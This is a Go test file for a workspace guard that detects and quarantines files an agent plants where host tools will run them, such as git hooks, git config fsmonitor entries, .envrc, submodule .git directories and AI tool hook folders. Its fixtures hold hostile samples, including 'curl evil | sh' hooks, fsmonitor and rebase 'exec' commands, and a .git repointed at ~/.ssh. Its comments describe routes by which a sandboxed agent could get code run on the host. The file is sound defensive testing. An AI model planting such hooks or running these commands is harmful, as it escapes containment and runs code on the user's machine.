package guard

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestPaths(t *testing.T) {
	got, err := Paths([]string{"tools/hooks/", ".git/hooks"}, []string{".idea", "./.vscode"})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{".launch.toml", ".git", ".envrc", "tools/hooks", ".pre-commit-config.yaml", ".devcontainer", ".claude/hooks", ".codex", ".pi", ".cursor"} {
		if !slices.Contains(got, want) {
			t.Errorf("Paths() = %v, lacks %q", got, want)
		}
	}
	for _, gone := range []string{".idea", ".vscode"} {
		if slices.Contains(got, gone) {
			t.Errorf("Paths() = %v, still holds removed %q", got, gone)
		}
	}
	if !slices.IsSorted(got) || len(slices.Compact(slices.Clone(got))) != len(got) {
		t.Errorf("Paths() = %v, want sorted and unique", got)
	}
	for _, bad := range []struct{ add, remove []string }{
		{remove: []string{".launch.toml"}},
		{add: []string{"/etc/passwd"}},
		{add: []string{"../up"}},
		{add: []string{"."}},
		{remove: []string{""}},
		{remove: []string{".git/hooks"}},
	} {
		if _, err := Paths(bad.add, bad.remove); err == nil {
			t.Errorf("Paths(%q, %q): no error", bad.add, bad.remove)
		}
	}
}

// workspace makes a workspace with a git repository and returns its path.
func workspace(t *testing.T) string {
	t.Helper()
	ws := t.TempDir()
	for p, content := range map[string]string{
		".git/config":                  "[core]\n\tbare = false\n",
		".git/hooks/pre-commit.sample": "#!/bin/sh\n",
		".git/HEAD":                    "ref: refs/heads/main\n",
		".launch.toml":                 "network = \"none\"\n",
		"src/main.go":                  "package main\n",
	} {
		write(t, filepath.Join(ws, p), content)
	}
	return ws
}

func write(t *testing.T, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func changed(t *testing.T, s Snapshot) []string {
	t.Helper()
	cs, err := s.Changed()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, c := range cs {
		out = append(out, c.Rel)
	}
	return out
}

func TestChanged(t *testing.T) {
	tests := []struct {
		name string
		act  func(t *testing.T, ws string)
		want []string
	}{
		{"nothing", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, "src/new.go"), "package main\n")
			write(t, filepath.Join(ws, ".git/HEAD"), "ref: refs/heads/other\n")
		}, nil},
		{"hook-planted", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/hooks/post-checkout"), "#!/bin/sh\ncurl evil | sh\n")
		}, []string{".git/hooks"}},
		{"sample-added", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/hooks/pre-push.sample"), "#!/bin/sh\n")
		}, nil},
		{"config-fsmonitor", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/config"), "[core]\n\tfsmonitor = /tmp/x\n")
		}, []string{".git/config"}},
		{"envrc-created", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".envrc"), "curl evil | sh\n")
		}, []string{".envrc"}},
		{"mode-changed", func(t *testing.T, ws string) {
			if err := os.Chmod(filepath.Join(ws, ".launch.toml"), 0o666); err != nil {
				t.Fatal(err)
			}
		}, []string{".launch.toml"}},
		{"link-planted", func(t *testing.T, ws string) {
			if err := os.Symlink("/tmp/evil", filepath.Join(ws, ".envrc")); err != nil {
				t.Fatal(err)
			}
		}, []string{".envrc"}},
		{"parent-renamed-and-replaced", func(t *testing.T, ws string) {
			// The read-only mounts sit on .git/hooks and .git/config; a
			// rename of .git takes them along, and a new .git has none.
			if err := os.Rename(filepath.Join(ws, ".git"), filepath.Join(ws, ".git-old")); err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(ws, ".git/config"), "[core]\n\tbare = false\n")
			write(t, filepath.Join(ws, ".git/hooks/pre-commit.sample"), "#!/bin/sh\n")
			write(t, filepath.Join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\nevil\n")
		}, []string{".git/hooks"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := workspace(t)
			rels, err := Paths(nil, nil)
			if err != nil {
				t.Fatal(err)
			}
			s, err := Take(ws, rels)
			if err != nil {
				t.Fatal(err)
			}
			tt.act(t, ws)
			if got := changed(t, s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("changed = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestUndo(t *testing.T) {
	ws := workspace(t)
	rels, _ := Paths(nil, nil)
	s, err := Take(ws, rels)
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(ws, ".git/hooks/post-checkout"), "evil\n")
	write(t, filepath.Join(ws, ".envrc"), "evil\n")
	cs, err := s.Changed()
	if err != nil {
		t.Fatal(err)
	}
	cs, err = Undo(cs, time.Date(2026, 12, 1, 15, 4, 5, 0, time.UTC))
	if err != nil {
		t.Fatal(err)
	}
	if len(cs) != 2 {
		t.Fatalf("Undo = %+v, want 2 changes", cs)
	}
	for _, c := range cs {
		if !strings.HasSuffix(c.MovedTo, ".launch-quarantine-20261201T150405Z") {
			t.Errorf("%s moved to %q", c.Rel, c.MovedTo)
		}
		if _, err := os.Lstat(c.Path); !os.IsNotExist(err) {
			t.Errorf("%s still in place after Undo: %v", c.Path, err)
		}
		if _, err := os.Stat(c.MovedTo); err != nil {
			t.Errorf("%s not kept for review: %v", c.MovedTo, err)
		}
	}
	if cs[0].Rel != ".envrc" || cs[0].Existed || cs[1].Rel != ".git/hooks" || !cs[1].Existed {
		t.Errorf("changes = %+v", cs)
	}
	// .envrc is absent again; .git/hooks is gone rather than as before, and
	// what was moved aside is a new entry of .git, for the next session.
	if got, want := changed(t, s), []string{".git/hooks.launch-quarantine-20261201T150405Z", ".git/hooks"}; !reflect.DeepEqual(got, want) {
		t.Errorf("after Undo, changed = %q, want %q", got, want)
	}
}

func TestGitdirFile(t *testing.T) {
	// In a git worktree .git is a file: it is fingerprinted as a whole.
	ws := t.TempDir()
	write(t, filepath.Join(ws, ".git"), "gitdir: /elsewhere\n")
	s, err := Take(ws, []string{".git", ".git/hooks"})
	if err != nil {
		t.Fatal(err)
	}
	if len(s) != 1 || !s[0].Git || !strings.HasPrefix(s[0].Print, "file ") {
		t.Errorf("Take = %+v, want the .git file only (.git/hooks is part of it)", s)
	}
	write(t, filepath.Join(ws, ".git"), "gitdir: /home/ana/.ssh\n")
	if got := changed(t, s); !reflect.DeepEqual(got, []string{".git"}) {
		t.Errorf("rewritten .git file: changed = %q", got)
	}
}

// gitWorkspace is workspace with a fuller git directory: objects, refs,
// logs, index, info, a submodule's and a linked worktree's git
// directories.
func gitWorkspace(t *testing.T) string {
	t.Helper()
	ws := workspace(t)
	for p, content := range map[string]string{
		".git/index":                          "DIRC",
		".git/objects/ab/cdef":                "blob",
		".git/refs/heads/main":                "0123\n",
		".git/logs/HEAD":                      "log\n",
		".git/packed-refs":                    "# pack-refs\n",
		".git/info/exclude":                   "*.o\n",
		".git/description":                    "Unnamed\n",
		".git/modules/sub/HEAD":               "ref: refs/heads/main\n",
		".git/modules/sub/config":             "[core]\n\tworktree = ../../../sub\n",
		".git/modules/sub/objects/pack/x":     "pack",
		".git/modules/sub/index":              "DIRC",
		".git/modules/a/b/HEAD":               "ref: refs/heads/main\n",
		".git/modules/a/b/config":             "[core]\n",
		".git/worktrees/wt/HEAD":              "ref: refs/heads/wt\n",
		".git/worktrees/wt/gitdir":            "/home/ana/wt/.git\n",
		".git/worktrees/wt/commondir":         "../..\n",
		".git/worktrees/wt/index":             "DIRC",
		".git/worktrees/wt/logs/HEAD":         "log\n",
		".git/hooks/pre-commit.launch-backup": "#!/bin/sh\n",
	} {
		write(t, filepath.Join(ws, p), content)
	}
	return ws
}

func TestGitUnits(t *testing.T) {
	ws := gitWorkspace(t)
	got, err := GitUnits(os.ReadDir, filepath.Join(ws, ".git"))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"config", "description", "hooks", "info", "modules/a/b/config", "modules/sub/config", "worktrees/wt/commondir", "worktrees/wt/gitdir"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("GitUnits = %q\nwant %q", got, want)
	}
	if got, err := GitUnits(os.ReadDir, filepath.Join(ws, "nowhere")); err != nil || len(got) != 0 {
		t.Errorf("GitUnits of a missing directory = %q, %v", got, err)
	}
}

// TestChangedGit: every way of planting something in .git that host git
// reads or runs is a change, and the ordinary work of git (objects, refs,
// index, HEAD, logs, a merge) is not.
func TestChangedGit(t *testing.T) {
	outside := t.TempDir()
	tests := []struct {
		name string
		act  func(t *testing.T, ws string)
		want []string
	}{
		{"commit", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/objects/12/3456"), "blob")
			write(t, filepath.Join(ws, ".git/refs/heads/feature"), "4567\n")
			write(t, filepath.Join(ws, ".git/index"), "DIRC2")
			write(t, filepath.Join(ws, ".git/HEAD"), "ref: refs/heads/feature\n")
			write(t, filepath.Join(ws, ".git/ORIG_HEAD"), "0123\n")
			write(t, filepath.Join(ws, ".git/MERGE_MSG"), "merge\n")
			write(t, filepath.Join(ws, ".git/COMMIT_EDITMSG"), "msg\n")
			write(t, filepath.Join(ws, ".git/index.lock"), "DIRC")
			write(t, filepath.Join(ws, ".git/logs/refs/heads/feature"), "log\n")
			write(t, filepath.Join(ws, ".git/modules/sub/objects/12/34"), "blob")
			write(t, filepath.Join(ws, ".git/worktrees/wt/index"), "DIRC2")
		}, nil},
		{"commondir", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/commondir"), outside+"\n")
		}, []string{".git/commondir"}},
		{"config-worktree", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/config.worktree"), "[core]\n\tfsmonitor = touch /tmp/x\n")
		}, []string{".git/config.worktree"}},
		{"module-config", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/modules/sub/config"), "[core]\n\tfsmonitor = touch /tmp/x\n")
		}, []string{".git/modules/sub/config"}},
		{"new-module", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/modules/evil/HEAD"), "ref: refs/heads/main\n")
			write(t, filepath.Join(ws, ".git/modules/evil/config"), "[core]\n\tfsmonitor = touch /tmp/x\n")
		}, []string{".git/modules/evil/config"}},
		{"worktree-commondir", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/worktrees/wt/commondir"), outside+"\n")
		}, []string{".git/worktrees/wt/commondir"}},
		{"info-attributes", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/info/attributes"), "* filter=evil\n")
		}, []string{".git/info"}},
		{"rebase-todo", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/rebase-merge/git-rebase-todo"), "exec touch /tmp/x\n")
		}, []string{".git/rebase-merge"}},
		{"objects-linked", func(t *testing.T, ws string) {
			if err := os.Rename(filepath.Join(ws, ".git/objects"), filepath.Join(ws, "objects-old")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(outside, filepath.Join(ws, ".git/objects")); err != nil {
				t.Fatal(err)
			}
		}, []string{".git/objects"}},
		{"replaced-by-file", func(t *testing.T, ws string) {
			if err := os.Rename(filepath.Join(ws, ".git"), filepath.Join(ws, "old")); err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(ws, ".git"), "gitdir: "+outside+"\n")
		}, []string{".git"}},
		{"replaced-by-link", func(t *testing.T, ws string) {
			if err := os.Rename(filepath.Join(ws, ".git"), filepath.Join(ws, "old")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(outside, filepath.Join(ws, ".git")); err != nil {
				t.Fatal(err)
			}
		}, []string{".git"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := gitWorkspace(t)
			rels, _ := Paths(nil, nil)
			s, err := Take(ws, rels)
			if err != nil {
				t.Fatal(err)
			}
			tt.act(t, ws)
			if got := changed(t, s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("changed = %q, want %q", got, tt.want)
			}
		})
	}
	t.Run("git-init", func(t *testing.T) {
		ws := t.TempDir()
		s, err := Take(ws, []string{".git"})
		if err != nil {
			t.Fatal(err)
		}
		write(t, filepath.Join(ws, ".git/config"), "[core]\n\tfsmonitor = touch /tmp/x\n")
		cs, err := s.Changed()
		if err != nil || len(cs) != 1 || cs[0].Rel != ".git" || cs[0].Existed {
			t.Fatalf("Changed = %+v, %v; want .git created", cs, err)
		}
	})
}

// TestUndoLinks: the move-aside renames a planted link itself, never what
// it points to, and refuses a path whose parent the agent made a link: a
// file outside the workspace is never renamed.
func TestUndoLinks(t *testing.T) {
	outside := t.TempDir()
	write(t, filepath.Join(outside, "hooks/keep"), "host file\n")
	write(t, filepath.Join(outside, "config"), "host file\n")
	t.Run("git-replaced-by-link", func(t *testing.T) {
		ws := workspace(t)
		rels, _ := Paths(nil, nil)
		s, err := Take(ws, rels)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.RemoveAll(filepath.Join(ws, ".git")); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, filepath.Join(ws, ".git")); err != nil {
			t.Fatal(err)
		}
		cs, err := s.Changed()
		if err != nil {
			t.Fatal(err)
		}
		if _, err := Undo(cs, time.Now()); err != nil {
			t.Fatal(err)
		}
		if fi, err := os.Lstat(filepath.Join(ws, ".git")); err == nil {
			t.Errorf(".git still in place: %v", fi.Mode())
		}
		assertUntouched(t, outside)
	})
	t.Run("linked-parent", func(t *testing.T) {
		ws := t.TempDir()
		s, err := Take(ws, []string{".claude/hooks"})
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, filepath.Join(ws, ".claude")); err != nil {
			t.Fatal(err)
		}
		cs, err := s.Changed()
		if err != nil || len(cs) != 1 {
			t.Fatalf("Changed = %+v, %v", cs, err)
		}
		cs, err = Undo(cs, time.Now())
		if err == nil || !errors.Is(err, errLinkedParent) || cs[0].MovedTo != "" {
			t.Errorf("Undo through a linked parent: %+v, %v; want a refusal", cs, err)
		}
		assertUntouched(t, outside)
	})
}

func assertUntouched(t *testing.T, outside string) {
	t.Helper()
	entries, err := os.ReadDir(outside)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if !reflect.DeepEqual(names, []string{"config", "hooks"}) {
		t.Errorf("outside the workspace now holds %q", names)
	}
}

func TestReadGitConfig(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "config"), `# comment
[core]
	bare = false
	hooksPath = ".husky/_" ; husky
[Core "Sub"] fsmonitor = a\
b
[include]
	path = more
[includeIf "gitdir:/x/"]
	path = ~/cond
`)
	write(t, filepath.Join(dir, "more"), "[core]\n\thookspath = tools/hooks\n")
	write(t, filepath.Join(dir, "home/cond"), "[CORE]\n\tHooksPath = ~/hooks\n")
	s := ReadGitConfig(os.ReadFile, filepath.Join(dir, "config"), filepath.Join(dir, "home"))
	if got, want := Values(s, "core.hookspath"), []string{".husky/_", "tools/hooks", "~/hooks"}; !reflect.DeepEqual(got, want) {
		t.Errorf("core.hookspath = %q, want %q", got, want)
	}
	if got := Values(s, "core.Sub.fsmonitor"); !reflect.DeepEqual(got, []string{"ab"}) {
		t.Errorf("core.Sub.fsmonitor = %q (%+v)", got, s)
	}
	if got := ReadGitConfig(os.ReadFile, filepath.Join(dir, "none"), dir); got != nil {
		t.Errorf("missing file: %+v", got)
	}
}

// git runs the host's git in dir with a fixed environment, or skips the
// test where there is none.
func git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git on this host")
	}
	c := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@e", "-c", "safe.directory=*"}, args...)...)
	c.Dir = dir
	c.Env = []string{"HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1", "PATH=" + os.Getenv("PATH")}
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatalf("git %q: %v: %s", args, err, out)
	}
	return string(out)
}

// TestGitlinks reads the submodules of real indexes of each version.
func TestGitlinks(t *testing.T) {
	for _, version := range []string{"2", "3", "4"} {
		t.Run("v"+version, func(t *testing.T) {
			ws := t.TempDir()
			git(t, ws, "init", "-q")
			write(t, filepath.Join(ws, "a/long/path/file"), "x\n")
			git(t, ws, "add", "a")
			const oid = "0123456789abcdef0123456789abcdef01234567"
			git(t, ws, "update-index", "--add", "--cacheinfo", "160000,"+oid+",a/long/sub")
			git(t, ws, "update-index", "--add", "--cacheinfo", "160000,"+oid+",z")
			write(t, filepath.Join(ws, "new"), "x\n")
			git(t, ws, "add", "--intent-to-add", "new") // an extended entry
			git(t, ws, "update-index", "--index-version", version)
			b, err := os.ReadFile(filepath.Join(ws, ".git/index"))
			if err != nil {
				t.Fatal(err)
			}
			got, err := Gitlinks(b, 20)
			if err != nil || !reflect.DeepEqual(got, []string{"a/long/sub", "z"}) {
				t.Errorf("Gitlinks = %q, %v", got, err)
			}
		})
	}
	if _, err := Gitlinks([]byte("DIRC\x00\x00\x00\x02\x00\x00\x00\x05"), 20); err == nil {
		t.Error("a truncated index parsed")
	}
}

// TestChangedSubmodule: the agent adds a submodule to the index (git's
// data, writable) and makes its path a repository of its own whose config
// sets core.fsmonitor, which the host's git status at the top would run.
// Its .git is a change and is moved aside; host git then runs nothing. A
// submodule's .git file that is rewritten is a change too.
func TestChangedSubmodule(t *testing.T) {
	ws := t.TempDir()
	git(t, ws, "init", "-q")
	write(t, filepath.Join(ws, "README"), "x\n")
	git(t, ws, "add", "README")
	git(t, ws, "commit", "-q", "-m", "first")
	rels, _ := Paths(nil, nil)
	s, err := Take(ws, rels)
	if err != nil {
		t.Fatal(err)
	}
	sub := filepath.Join(ws, "sub")
	write(t, filepath.Join(sub, "a"), "a\n")
	git(t, sub, "init", "-q")
	git(t, sub, "add", "a")
	git(t, sub, "commit", "-q", "-m", "a")
	marker := filepath.Join(t.TempDir(), "marker")
	write(t, filepath.Join(sub, ".git/config"), fmt.Sprintf("[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"echo x >> %s; false\"\n", marker))
	head := strings.TrimSpace(git(t, sub, "rev-parse", "HEAD"))
	git(t, ws, "update-index", "--add", "--cacheinfo", "160000,"+head+",sub")
	cs, err := s.Changed()
	if err != nil || len(cs) != 1 || cs[0].Rel != "sub/.git" || cs[0].Existed {
		t.Fatalf("Changed = %+v, %v; want sub/.git created", cs, err)
	}
	if _, err := Undo(cs, time.Now()); err != nil {
		t.Fatal(err)
	}
	git(t, ws, "status")
	if _, err := os.Stat(marker); err == nil {
		t.Error("host git status ran the submodule's fsmonitor")
	}

	// Now a submodule that was there before, whose .git file is rewritten.
	s, err = Take(ws, rels)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(s, func(e Entry) bool { return e.Rel == "sub/.git" && e.Git && e.Print == absent }) {
		t.Fatalf("Take = %+v, lacks the submodule's .git", s)
	}
	write(t, filepath.Join(sub, ".git"), "gitdir: /elsewhere\n")
	if got := changed(t, s); !reflect.DeepEqual(got, []string{"sub/.git"}) {
		t.Errorf("changed = %q, want sub/.git", got)
	}
}
